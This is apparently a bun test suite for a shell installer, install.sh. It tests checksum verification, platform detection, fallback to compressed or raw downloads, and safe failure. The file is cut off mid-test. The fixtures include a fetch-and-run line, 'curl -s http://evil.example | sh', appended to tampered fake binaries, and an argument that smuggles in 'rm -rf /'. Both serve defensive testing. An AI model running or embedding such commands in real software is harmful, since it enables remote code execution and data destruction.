// install.sh against a loopback server that serves fake release assets like
// GitHub does. Every run gets its own HOME, TMPDIR and install directory and an
// environment with nothing of the developer's in it; the real /usr/local/bin is
// never written (runs that would pick it use --dry-run).

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import pkg from "../../package.json" with { type: "json" };
import { ensureBinary } from "../harness/env.ts";
import { missing } from "../harness/tools.ts";
import {
  availableShells,
  BINARY,
  fakeBinary,
  fakes,
  gzip,
  INSTALL_SH,
  listTree,
  MACHINES,
  machineEnv,
  makeRelease,
  parseDryRun,
  PLATFORMS,
  removeTempDirs,
  runInstall,
  sha256,
  startReleaseServer,
  sumsOf,
  tempDir,
  toolDir,
  type FakeRelease,
  type ReleaseServer,
  type Shell,
  xz,
} from "./fixtures.ts";

const shells = availableShells();
const dash = shells.find((s) => s.name === "dash") ?? { name: "sh", argv: ["/bin/sh"] };

let server: ReleaseServer;
let modernLinux: { PATH: string; PGSHIP_SYSROOT: string };

beforeAll(() => {
  const releases = new Map<string, FakeRelease>();
  releases.set("v1.2.3", makeRelease("1.2.3"));
  releases.set("v1.3.0", makeRelease("1.3.0"));
  // A release from before compressed assets: only the raw binaries.
  releases.set("v1.1.0", makeRelease("1.1.0", { compressed: false }));
  // A tampered (old, uncompressed) release: SHA256SUMS is the genuine one, the served binary is not.
  const tampered = makeRelease("6.6.6", { compressed: false });
  tampered.served = { [`${BINARY}-linux-x64`]: `${tampered.files[`${BINARY}-linux-x64`]}curl -s http://evil.example | sh\n` };
  releases.set("v6.6.6", tampered);
  // SHA256SUMS lists every build, but the linux-x64 upload is missing.
  const partial = makeRelease("0.9.0", { compressed: false });
  partial.sums = sumsOf(partial.files);
  partial.files[`${BINARY}-linux-x64`] = null;
  releases.set("v0.9.0", partial);
  // A release without arm64 builds at all.
  releases.set("v0.8.0", makeRelease("0.8.0", { omit: ["linux-arm64", "linux-arm64-musl"] }));
  // A release whose download hangs half-way (for interruption).
  const stalled = makeRelease("0.7.0");
  stalled.stall = [`${BINARY}-linux-x64.xz`];
  releases.set("v0.7.0", stalled);
  releases.set("v2.0.0", makeRelease("2.0.0", { binary: "myapp-db" }));
  // A build that does not run here (as a modern x64 build on a CPU without AVX2).
  const crashing = makeRelease("0.6.0");
  const crash = "#!/bin/sh\necho 'Illegal instruction' >&2\nexit 132\n";
  Object.assign(crashing.files, { [`${BINARY}-linux-x64`]: crash, [`${BINARY}-linux-x64.gz`]: gzip(crash), [`${BINARY}-linux-x64.xz`]: xz(crash) });
  releases.set("v0.6.0", crashing);
  // A .gz corrupted on the way: SHA256SUMS is the genuine one, the served .gz is cut short.
  const corruptGz = makeRelease("0.5.0");
  const gz = corruptGz.files[`${BINARY}-linux-x64.gz`] as Uint8Array;
  corruptGz.served = { [`${BINARY}-linux-x64.gz`]: gz.slice(0, gz.length - 9) };
  releases.set("v0.5.0", corruptGz);
  // A .gz that is not gzip at all, listed with its own checksum (a broken build step).
  const notGz = makeRelease("0.4.0");
  notGz.files[`${BINARY}-linux-x64.gz`] = "this is not gzip\n";
  notGz.files[`${BINARY}-linux-x64.xz`] = "this is not xz\n";
  releases.set("v0.4.0", notGz);
  // Compressed files whose checksums match but that unpack to another binary than SHA256SUMS lists.
  const swapped = makeRelease("0.3.0");
  const evil = `${swapped.files[`${BINARY}-linux-x64`]}curl -s http://evil.example | sh\n`;
  swapped.files[`${BINARY}-linux-x64.gz`] = gzip(evil);
  swapped.files[`${BINARY}-linux-x64.xz`] = xz(evil);
  releases.set("v0.3.0", swapped);
  // A mirror that copied SHA256SUMS and the binaries but not the compressed files.
  const rawOnly = makeRelease("0.2.0");
  for (const name of Object.keys(rawOnly.files)) if (/\.(gz|xz)$/.test(name)) rawOnly.files[name] = null;
  releases.set("v0.2.0", rawOnly);
  server = startReleaseServer(releases, "v1.3.0");
  modernLinux = machineEnv(MACHINES[0]!);
});

afterAll(() => {
  server?.stop();
  removeTempDirs();
});

/** Fresh HOME, TMPDIR and install dir, with the server as the releases root. */
function sandbox(extra: Record<string, string> = {}) {
  const home = tempDir("pgship-home-");
  const tmp = tempDir("pgship-tmp-");
  const dir = join(tempDir("pgship-dest-"), "bin");
  const env: Record<string, string> = {
    HOME: home,
    TMPDIR: tmp,
    SHELL: "/bin/sh",
    PGSHIP_RELEASES_URL: `${server.url}/releases`,
    ...modernLinux,
    ...extra,
  };
  return { home, tmp, dir, env };
}

function requestsSince(n: number): string[] {
  return server.requests.slice(n);
}

describe.each(shells.map((s) => [s.name, s] as [string, Shell]))("install.sh under %s", (_name, shell) => {
  test("happy path: downloads, verifies and installs the latest release; prints a PATH hint; edits no rc file", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const r = await runInstall(shell, ["--dir", s.dir], s.env);
    expect(r.stderr).toContain("checksum verified");
    expect(r.code).toBe(0);
    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.xz`]);
    const target = join(s.dir, BINARY);
    expect(statSync(target).mode & 0o777).toBe(0o755);
    expect(spawnSync(target, ["--version"], { encoding: "utf8" }).stdout).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(r.stderr).toContain(`${s.dir} is not on your PATH`);
    expect(r.stderr).toContain(`export PATH="${s.dir}:$PATH"`);
    expect(r.stderr).toMatch(new RegExp(`^${BINARY} install: `, "m"));
    expect(r.stdout).toBe("");
    expect(listTree(s.home)).toEqual([]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("a tampered binary is refused: checksum mismatch, nothing installed, old binary kept", async () => {
    const s = sandbox();
    mkdirSync(s.dir, { recursive: true });
    writeFileSync(join(s.dir, BINARY), fakeBinary("1.2.3", `${BINARY}-linux-x64`), { mode: 0o755 });
    const before = readFileSync(join(s.dir, BINARY), "utf8");
    const r = await runInstall(shell, ["--version", "6.6.6", "--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`error: checksum mismatch for ${BINARY}-linux-x64`);
    expect(r.stderr).toContain(sha256(server.releases.get("v6.6.6")!.files[`${BINARY}-linux-x64`]!));
    expect(readFileSync(join(s.dir, BINARY), "utf8")).toBe(before);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("a missing asset is a clear 404 and installs nothing", async () => {
    const s = sandbox();
    const r = await runInstall(shell, ["--version", "0.9.0", "--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`error: ${BINARY}-linux-x64 not found at ${server.url}/releases/download/v0.9.0/${BINARY}-linux-x64 (HTTP 404)`);
    expect(listTree(s.dir)).toEqual([]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("a release without this platform's build says so", async () => {
    const s = sandbox(machineEnv(MACHINES.find((m) => m.expect === "linux-arm64")!));
    const r = await runInstall(shell, ["--version", "0.8.0", "--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`this release has no build named ${BINARY}-linux-arm64`);
    expect(existsSync(s.dir) ? listTree(s.dir) : []).toEqual([]);
  });

  test("a version that does not exist: 404 on SHA256SUMS, pointing at the releases page", async () => {
    const s = sandbox();
    const r = await runInstall(shell, ["9.9.9", "--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`SHA256SUMS not found at ${server.url}/releases/download/v9.9.9/SHA256SUMS (HTTP 404): is there a release v9.9.9?`);
  });

  test.each([
    ["FreeBSD", "amd64", "unsupported operating system: FreeBSD"],
    ["Linux", "mips", "unsupported CPU architecture: mips"],
    ["Linux", "armv7l", "unsupported CPU architecture: armv7l"],
    ["MINGW64_NT-10.0", "x86_64", "Windows is not supported: run this installer inside WSL"],
  ])("unsupported platform %s/%s is refused before any download", async (s_, m, message) => {
    const s = sandbox({ PATH: toolDir({ fakes: { uname: fakes.uname(s_, m) } }) });
    const before = server.requests.length;
    const r = await runInstall(shell, ["--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(message);
    expect(requestsSince(before)).toEqual([]);
    expect(existsSync(s.dir)).toBe(false);
  });

  test("without sha256sum or shasum it refuses to install (before downloading)", async () => {
    const s = sandbox({ PATH: toolDir({ exclude: ["sha256sum", "shasum"], fakes: { uname: fakes.uname("Linux", "x86_64") } }) });
    const before = server.requests.length;
    const r = await runInstall(shell, ["--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("found neither sha256sum nor shasum, so the download cannot be verified; refusing to install");
    expect(requestsSince(before)).toEqual([]);
    expect(existsSync(s.dir)).toBe(false);
  });

  test("PGSHIP_VERSION selects the release; --version and a bare argument win over it", async () => {
    for (const [args, env, tag, version] of [
      [[], { PGSHIP_VERSION: "1.2.3" }, "v1.2.3", "1.2.3"],
      [[], { PGSHIP_VERSION: "v1.2.3" }, "v1.2.3", "1.2.3"],
      [["--version", "v1.2.3"], { PGSHIP_VERSION: "1.3.0" }, "v1.2.3", "1.2.3"],
      [["--version=1.2.3"], {}, "v1.2.3", "1.2.3"],
      [["1.2.3"], { PGSHIP_VERSION: "1.3.0" }, "v1.2.3", "1.2.3"],
      [["latest"], { PGSHIP_VERSION: "1.2.3" }, null, "1.3.0"],
    ] as [string[], Record<string, string>, string | null, string][]) {
      const s = sandbox(env);
      const before = server.requests.length;
      const r = await runInstall(shell, [...args, "--dir", s.dir], s.env);
      expect(r.code).toBe(0);
      const prefix = tag ? `/releases/download/${tag}` : "/releases/latest/download";
      expect(requestsSince(before)).toEqual([`${prefix}/SHA256SUMS`, `${prefix}/${BINARY}-linux-x64.xz`]);
      expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toContain(` ${version} `);
    }
  });
});

describe("install.sh: platform detection", () => {
  test.each(MACHINES.map((m) => [m.name, m] as const))("%s", async (_n, m) => {
    const s = sandbox(machineEnv(m));
    const r = await runInstall(dash, ["--dry-run", "--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(parseDryRun(r.stdout).platform).toBe(m.expect);
    expect(parseDryRun(r.stdout).asset).toBe(`${BINARY}-${m.expect}`);
  });

  test.each([
    ["musl, no AVX2", MACHINES.find((m) => m.expect === "linux-x64-musl-baseline")!],
    ["glibc, no AVX2", MACHINES.find((m) => m.expect === "linux-x64-baseline")!],
  ])("installs the detected build (%s)", async (_n, m) => {
    const s = sandbox(machineEnv(m));
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toBe(`${BINARY} 1.3.0 (${BINARY}-${m.expect})\n`);
  });

  test("a 32-bit userland on a 64-bit kernel is refused", async () => {
    const s = sandbox({ PATH: toolDir({ fakes: { uname: fakes.uname("Linux", "aarch64"), getconf: fakes.getconf32 } }) });
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("32-bit system");
  });

  test("PGSHIP_PLATFORM skips detection", async () => {
    const s = sandbox({ PGSHIP_PLATFORM: "linux-arm64-musl" });
    const r = await runInstall(dash, ["--dry-run"], s.env);
    expect(parseDryRun(r.stdout).asset).toBe(`${BINARY}-linux-arm64-musl`);
    const bad = await runInstall(dash, ["--dry-run"], { ...s.env, PGSHIP_PLATFORM: "../etc" });
    expect(bad.code).toBe(2);
  });
});

describe("install.sh: where it installs", () => {
  test("as root the default is /usr/local/bin (dry run: nothing written)", async () => {
    const s = sandbox({ PATH: toolDir({ fakes: { uname: fakes.uname("Linux", "x86_64"), id: fakes.id(0) } }) });
    const r = await runInstall(dash, ["--dry-run"], s.env);
    expect(r.code).toBe(0);
    expect(parseDryRun(r.stdout)).toMatchObject({ dir: "/usr/local/bin", target: `/usr/local/bin/${BINARY}`, version: "latest" });
  });

  test("as a user the default is ~/.local/bin, created if missing; only that appears in HOME", async () => {
    const s = sandbox({ PATH: toolDir({ fakes: { uname: fakes.uname("Linux", "x86_64"), id: fakes.id(1000) } }) });
    const dry = await runInstall(dash, ["--dry-run"], s.env);
    expect(parseDryRun(dry.stdout).dir).toBe(join(s.home, ".local/bin"));
    const r = await runInstall(dash, [], s.env);
    expect(r.code).toBe(0);
    expect(listTree(s.home)).toEqual([".local", ".local/bin", `.local/bin/${BINARY}`]);
    expect(r.stderr).toContain(`${s.home}/.local/bin is not on your PATH`);
  });

  test("--dir beats PGSHIP_INSTALL_DIR, which beats the root default", async () => {
    const s = sandbox({ PATH: toolDir({ fakes: { uname: fakes.uname("Linux", "x86_64"), id: fakes.id(0) } }), PGSHIP_INSTALL_DIR: "/opt/env/bin" });
    expect(parseDryRun((await runInstall(dash, ["--dry-run"], s.env)).stdout).dir).toBe("/opt/env/bin");
    expect(parseDryRun((await runInstall(dash, ["--dry-run", "--dir", "/opt/flag/bin/"], s.env)).stdout).dir).toBe("/opt/flag/bin");
    expect(parseDryRun((await runInstall(dash, ["--dry-run", "--dir=/opt/eq"], s.env)).stdout).dir).toBe("/opt/eq");
  });

  test("an install directory it cannot write to is a clear error", async () => {
    const s = sandbox();
    const file = join(s.tmp, "not-a-dir");
    writeFileSync(file, "");
    const r = await runInstall(dash, ["--dir", join(file, "bin")], { ...s.env, TMPDIR: tempDir() });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`cannot create ${file}/bin: choose another place with --dir`);
  });

  test("no PATH hint when the directory is already on PATH", async () => {
    const s = sandbox();
    const r = await runInstall(dash, ["--dir", s.dir], { ...s.env, PATH: `${s.dir}:${s.env.PATH}` });
    expect(r.code).toBe(0);
    expect(r.stderr).not.toContain("not on your PATH");
  });

  test("a verified binary that does not run here is not installed; the old one stays", async () => {
    const s = sandbox();
    await runInstall(dash, ["1.2.3", "--dir", s.dir], s.env);
    const r = await runInstall(dash, ["0.6.0", "--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("checksum verified");
    expect(r.stderr).toContain(`error: the downloaded ${BINARY}-linux-x64 does not run on this machine (if it says 'Illegal instruction', install the baseline build: PGSHIP_PLATFORM=linux-x64-baseline): Illegal instruction`);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toContain(" 1.2.3 ");
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("warns when another binary of the same name comes first on PATH", async () => {
    const s = sandbox();
    const other = tempDir();
    writeFileSync(join(other, BINARY), fakeBinary("0.0.1", `${BINARY}-linux-x64`), { mode: 0o755 });
    const r = await runInstall(dash, ["--dir", s.dir], { ...s.env, PATH: `${other}:${s.dir}:${s.env.PATH}` });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`note: ${join(other, BINARY)} comes before ${s.dir} on your PATH`);
  });

  test("replaces an existing binary and says which version it replaced", async () => {
    const s = sandbox();
    await runInstall(dash, ["1.2.3", "--dir", s.dir], s.env);
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`(${BINARY} 1.3.0 (${BINARY}-linux-x64), replacing ${BINARY} 1.2.3 (${BINARY}-linux-x64))`);
    expect(listTree(s.dir)).toEqual([BINARY]);
  });
});

describe("install.sh: --modify-path", () => {
  test.each([
    ["/bin/bash", ".bashrc", (d: string) => `export PATH="${d}:$PATH"`],
    ["/usr/bin/zsh", ".zshrc", (d: string) => `export PATH="${d}:$PATH"`],
    ["/usr/bin/fish", `.config/fish/conf.d/${BINARY}.fish`, (d: string) => `fish_add_path "${d}"`],
    ["/bin/sh", ".profile", (d: string) => `export PATH="${d}:$PATH"`],
  ])("SHELL=%s: appends to ~/%s once", async (shellPath, rc, line) => {
    const s = sandbox({ SHELL: shellPath });
    for (let i = 0; i < 2; i++) {
      const r = await runInstall(dash, ["--modify-path", "--dir", s.dir], s.env);
      expect(r.code).toBe(0);
      expect(r.stderr).toContain(i === 0 ? `added ${s.dir} to PATH in ${join(s.home, rc)}` : "already adds");
    }
    const text = readFileSync(join(s.home, rc), "utf8");
    expect(text).toBe(`\n# added by the ${pkg.pgship.displayName} installer\n${line(s.dir)}\n`);
  });

  test("the line it writes really puts the directory on PATH", async () => {
    const s = sandbox({ SHELL: "/bin/sh" });
    await runInstall(dash, ["--modify-path", "--dir", s.dir], s.env);
    const r = spawnSync("/bin/sh", ["-c", `. "${join(s.home, ".profile")}"; command -v ${BINARY}`], { encoding: "utf8", env: { PATH: "/usr/bin:/bin", HOME: s.home } });
    expect(r.stdout.trim()).toBe(join(s.dir, BINARY));
  });
});

describe("install.sh: downloaders and checksum tools", () => {
  test("uses wget when curl is missing (and wget's 404 is as clear)", async () => {
    const s = sandbox({ PATH: toolDir({ exclude: ["curl"], fakes: { uname: fakes.uname("Linux", "x86_64") } }) });
    const ok = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(ok.code).toBe(0);
    expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toContain("1.3.0");
    const missing = await runInstall(dash, ["0.9.0", "--dir", join(s.dir, "other")], s.env);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain(`${BINARY}-linux-x64 not found at ${server.url}/releases/download/v0.9.0/${BINARY}-linux-x64 (HTTP 404)`);
  });

  test("neither curl nor wget: a clear error", async () => {
    const s = sandbox({ PATH: toolDir({ exclude: ["curl", "wget"], fakes: { uname: fakes.uname("Linux", "x86_64") } }) });
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("neither curl nor wget is installed");
  });

  test.skipIf(missing("shasum"))("uses shasum -a 256 when sha256sum is missing (macOS)", async () => {
    const s = sandbox({ PATH: toolDir({ exclude: ["sha256sum"], fakes: { uname: fakes.uname("Linux", "x86_64") } }) });
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("checksum verified");
  });

  test("an unreachable server is a clear error", async () => {
    const s = sandbox({ PGSHIP_BASE_URL: "http://127.0.0.1:1/nowhere" });
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("could not download SHA256SUMS from http://127.0.0.1:1/nowhere/SHA256SUMS");
    expect(r.stderr).toContain("without it the download cannot be verified");
  });

  test("PGSHIP_BASE_URL: a mirror holding one release's assets", async () => {
    const s = sandbox({ PGSHIP_BASE_URL: `${server.url}/mirror/v1.2.3/` });
    const before = server.requests.length;
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(requestsSince(before)).toEqual(["/mirror/v1.2.3/SHA256SUMS", `/mirror/v1.2.3/${BINARY}-linux-x64.xz`]);
  });

  test.skipIf(missing("busybox"))("Alpine-like userland: busybox sh, wget and sha256sum, musl → the musl build", async () => {
    const path = toolDir({ busybox: true, fakes: { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddMusl } });
    const s = sandbox({ PATH: path });
    const r = await runInstall({ name: "busybox sh", argv: [join(path, "sh")] }, ["--dir", s.dir], s.env);
    expect(r.stderr).toContain("checksum verified");
    expect(r.code).toBe(0);
    expect(spawnSync(join(s.dir, BINARY), ["--version"], { encoding: "utf8" }).stdout).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64-musl)\n`);
    expect(listTree(s.tmp)).toEqual([]);
  });
});

describe("install.sh: compressed downloads", () => {
  const linux = { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc };
  const noXz = () => toolDir({ exclude: ["xz"], fakes: linux });
  const neither = () => toolDir({ exclude: ["xz", "gzip"], fakes: linux });
  const version = (dir: string) => spawnSync(join(dir, BINARY), ["--version"], { encoding: "utf8" }).stdout;

  test("with xz installed it downloads the .xz, checks it and the unpacked binary, and installs", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`downloading ${server.url}/releases/latest/download/${BINARY}-linux-x64.xz`);
    expect(r.stderr).toContain(`checksum verified (sha256 ${sha256(server.releases.get("v1.3.0")!.files[`${BINARY}-linux-x64`]!)})`);
    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.xz`]);
    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test.each(shells.map((sh) => [sh.name, sh] as [string, Shell]))("without xz it downloads the .gz (%s)", async (_n, shell) => {
    const s = sandbox({ PATH: noXz() });
    const before = server.requests.length;
    const r = await runInstall(shell, ["--dir", s.dir], s.env);
    expect(r.stderr).toContain("checksum verified");
    expect(r.code).toBe(0);
    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64.gz`]);
    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("without xz and gzip it downloads the raw binary", async () => {
    const s = sandbox({ PATH: neither() });
    const before = server.requests.length;
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(requestsSince(before)).toEqual(["/releases/latest/download/SHA256SUMS", `/releases/latest/download/${BINARY}-linux-x64`]);
    expect(version(s.dir)).toBe(`${BINARY} 1.3.0 (${BINARY}-linux-x64)\n`);
  });

  test("a release without compressed assets (an old release) installs the raw binary, even with xz installed", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const r = await runInstall(dash, ["1.1.0", "--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(requestsSince(before)).toEqual(["/releases/download/v1.1.0/SHA256SUMS", `/releases/download/v1.1.0/${BINARY}-linux-x64`]);
    expect(version(s.dir)).toBe(`${BINARY} 1.1.0 (${BINARY}-linux-x64)\n`);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("a compressed file listed but not served (404) falls back to the raw binary", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const r = await runInstall(dash, ["0.2.0", "--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`not found; downloading ${server.url}/releases/download/v0.2.0/${BINARY}-linux-x64\n`);
    expect(requestsSince(before)).toEqual(["SHA256SUMS", `${BINARY}-linux-x64.xz`, `${BINARY}-linux-x64`].map((n) => `/releases/download/v0.2.0/${n}`));
    expect(version(s.dir)).toBe(`${BINARY} 0.2.0 (${BINARY}-linux-x64)\n`);
    expect(listTree(s.tmp)).toEqual([]);
  });

  /** Installs 1.2.3, then tries `version`: it must fail with `message`, keeping 1.2.3 and leaving nothing else. */
  async function refused(path: string, v: string, message: string) {
    const s = sandbox({ PATH: path });
    expect((await runInstall(dash, ["1.2.3", "--dir", s.dir], s.env)).code).toBe(0);
    const r = await runInstall(dash, [v, "--dir", s.dir], s.env);
    expect(r.stderr).toContain(message);
    expect(r.stderr).not.toContain("checksum verified");
    expect(r.code).toBe(1);
    expect(listTree(s.dir)).toEqual([BINARY]);
    expect(version(s.dir)).toContain(" 1.2.3 ");
    expect(listTree(s.tmp)).toEqual([]);
  }

  test("a corrupted .gz is refused by its checksum; nothing is left behind", async () => {
    const listed = sha256(server.releases.get("v0.5.0")!.files[`${BINARY}-linux-x64.gz`]!);
    await refused(noXz(), "0.5.0", `error: checksum mismatch for ${BINARY}-linux-x64.gz: SHA256SUMS says ${listed}, the download is `);
  });

  test.each([
    ["gzip", noXz, ".gz"],
    ["xz", () => toolDir({ fakes: linux }), ".xz"],
  ])("a file that %s cannot unpack is refused; nothing is left behind", async (tool, path, ext) => {
    await refused(path(), "0.4.0", `error: could not decompress ${BINARY}-linux-x64${ext} with ${tool}`);
  });

  test.each([
    [".gz", noXz],
    [".xz", () => toolDir({ fakes: linux })],
  ])("a %s that unpacks to another binary than SHA256SUMS lists is refused", async (ext, path) => {
    const expected = sha256(server.releases.get("v0.3.0")!.files[`${BINARY}-linux-x64`]!);
    await refused(path(), "0.3.0", `error: checksum mismatch for ${BINARY}-linux-x64 unpacked from ${BINARY}-linux-x64${ext}: SHA256SUMS says ${expected}, the unpacked binary is `);
  });
});

describe("install.sh: progress", () => {
  const bar = /100(\.0)?%/;

  test.skipIf(missing("script")).each([["curl"], ["wget"]])("on a terminal %s draws a progress bar", async (tool) => {
    const s = sandbox(tool === "wget" ? { PATH: toolDir({ exclude: ["curl"], fakes: { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc } }) } : {});
    const cmd = `${dash.argv.join(" ")} '${INSTALL_SH}' --dir '${s.dir}'`;
    const r = await runInstall({ name: "script", argv: ["script", "-qec", cmd, "/dev/null"] }, [], s.env, { script: "" });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("checksum verified");
    expect(r.stdout).toMatch(bar);
    expect(listTree(s.dir)).toEqual([BINARY]);
  });

  test.each([["curl"], ["wget"]])("without a terminal %s is quiet", async (tool) => {
    const s = sandbox(tool === "wget" ? { PATH: toolDir({ exclude: ["curl"], fakes: { uname: fakes.uname("Linux", "x86_64"), ldd: fakes.lddGlibc } }) } : {});
    const r = await runInstall(dash, ["--dir", s.dir], s.env);
    expect(r.code).toBe(0);
    expect(r.stderr).not.toMatch(bar);
    expect(r.stderr).not.toContain("#");
    expect(r.stderr.split("\n").filter((l) => l && !l.startsWith(`${BINARY} install: `) && l.trim() !== `export PATH="${s.dir}:$PATH"`)).toEqual([]);
  });
});

describe("install.sh: --run, interruption, usage", () => {
  test.skipIf(missing("script"))("--run starts the installed binary with stdin from the terminal, even when piped into sh", async () => {
    const s = sandbox();
    const cmd = `printf '' | ${dash.argv.join(" ")} '${INSTALL_SH}' --run --dir '${s.dir}'`;
    // Asynchronously: the release server runs in this process and must keep answering.
    const r = await runInstall({ name: "script", argv: ["script", "-qec", cmd, "/dev/null"] }, [], { ...s.env, SHELL: "/bin/sh" }, { script: "" });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("wizard: stdin is a terminal");
    expect(r.stdout).toContain(`starting ${join(s.dir, BINARY)}`);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("--run without a terminal fails before changing anything", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const r = await runInstall(dash, ["--run", "--dir", s.dir], s.env, { wrap: ["setsid", "-w"] });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("--run needs a terminal");
    expect(requestsSince(before)).toEqual([]);
    expect(existsSync(s.dir)).toBe(false);
  });

  test("Ctrl-C during the download leaves no partial binary and no temp files", async () => {
    const s = sandbox();
    const before = server.requests.length;
    const child = spawn(dash.argv[0]!, [...dash.argv.slice(1), INSTALL_SH, "0.7.0", "--dir", s.dir], { env: s.env, detached: true, stdio: ["ignore", "pipe", "pipe"] });
    let stderr = "";
    child.stderr.on("data", (d) => (stderr += d));
    const exited = new Promise<number | null>((r) => child.on("close", (code) => r(code)));
    const deadline = Date.now() + 10_000;
    while (!requestsSince(before).includes(`/releases/download/v0.7.0/${BINARY}-linux-x64.xz`) && Date.now() < deadline) await Bun.sleep(20);
    await Bun.sleep(200);
    expect(listTree(s.tmp).length).toBeGreaterThan(0); // the download is under way
    process.kill(-child.pid!, "SIGINT");
    const code = await exited;
    expect(code).toBe(130);
    expect(existsSync(join(s.dir, BINARY))).toBe(false);
    expect(listTree(s.dir)).toEqual([]);
    expect(listTree(s.tmp)).toEqual([]);
  });

  test("--help prints the flags and environment variables on stdout", async () => {
    const r = await runInstall(dash, ["--help"], {});
    expect(r.code).toBe(0);
    for (const word of ["--version V", "--dir DIR", "--run", "--modify-path", "--dry-run", "PGSHIP_VERSION", "PGSHIP_INSTALL_DIR", "PGSHIP_BASE_URL", "PGSHIP_RELEASES_URL"]) {
      expect(r.stdout).toContain(word);
    }
  });

  test.each([
    [["--bogus"], "unknown flag: --bogus"],
    [["--version"], "--version needs a value"],
    [["1.0.0", "2.0.0"], "only one version may be given"],
    [["--version", "1.0;rm -rf /"], "not a version"],
  ])("usage error %j exits 2", async (args, message) => {
    const s = sandbox();
    const r = await runInstall(dash, args, s.env);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
  });
});

describe("install.sh: the file itself", () => {
  test.skipIf(missing("shellcheck"))("shellcheck -s sh finds nothing", () => {
    const r = spawnSync("shellcheck", ["-s", "sh", INSTALL_SH], { encoding: "utf8" });
    expect(r.stdout + r.stderr).toBe("");
    expect(r.status).toBe(0);
  });

  test("runs nothing until its last line: every truncated copy downloads and writes nothing", async () => {
    const lines = readFileSync(INSTALL_SH, "utf8").split("\n");
    const last = lines.filter((l) => l.trim()).at(-1);
    expect(last).toBe('install_main "$@"');
    expect(readFileSync(INSTALL_SH, "utf8")).toMatch(/^install_main\(\) \{\n {4}set -eu\n/m);
    const s = sandbox();
    const work = tempDir();
    const before = server.requests.length;
    const cut = lines.length - lines.slice().reverse().findIndex((l) => l.trim());
    for (let n = 1; n < cut; n++) {
      const file = join(work, "install.sh");
      writeFileSync(file, lines.slice(0, n).join("\n") + "\n");
      // spawnSync blocks the release server, so a copy that did fetch would time out here.
      const r = spawnSync(dash.argv[0]!, [file, "--dir", s.dir], { env: s.env, encoding: "utf8", timeout: 10_000 });
      expect(r.status === null).toBe(false);
      expect(r.stdout).toBe("");
    }
    expect(requestsSince(before)).toEqual([]);
